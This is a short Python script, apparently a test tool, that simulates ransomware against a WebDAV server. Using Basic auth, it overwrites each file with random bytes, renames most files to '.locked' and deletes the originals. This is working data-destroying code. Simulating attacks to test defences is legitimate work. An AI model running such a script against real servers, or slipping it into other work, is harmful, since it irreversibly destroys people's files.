#!/usr/bin/env python3
"""Ransomware through WebDAV, for tests.

    ransomware.py ROOT URL [USER:PASSWORD]

ROOT is the server's own folder behind the collection URL (read to know
the files; Apache's .DAV property folders left out). Through URL, with
Basic auth (default alice:secret), every file's bytes are replaced by
random ones of the same size: the first file (in name order) overwritten
in place, every other one written to NAME.locked and the original
deleted. Any answer other than 2xx stops it with an error.
"""
import base64
import http.client
import os
import sys
import urllib.parse


def main():
    if len(sys.argv) not in (3, 4):
        sys.exit(__doc__)
    root, url = sys.argv[1], urllib.parse.urlsplit(sys.argv[2])
    cred = (sys.argv[3] if len(sys.argv) == 4 else "alice:secret").encode()
    auth = {"Authorization": "Basic " + base64.b64encode(cred).decode()}

    def req(method, path, body=None):
        c = http.client.HTTPConnection(url.hostname, url.port)
        c.request(method, url.path + urllib.parse.quote(path), body=body, headers=auth)
        r = c.getresponse()
        r.read()
        c.close()
        if r.status >= 300:
            sys.exit("ransomware.py: %s %s: %d" % (method, path, r.status))

    files = sorted(os.path.relpath(os.path.join(d, f), root) for d, _, fs in os.walk(root)
                   for f in fs if ".DAV" not in d.split(os.sep))
    for i, f in enumerate(files):
        data = os.urandom(max(1, os.path.getsize(os.path.join(root, f))))
        if i == 0:
            req("PUT", f, data)
            continue
        req("PUT", f + ".locked", data)
        req("DELETE", f)


if __name__ == "__main__":
    main()
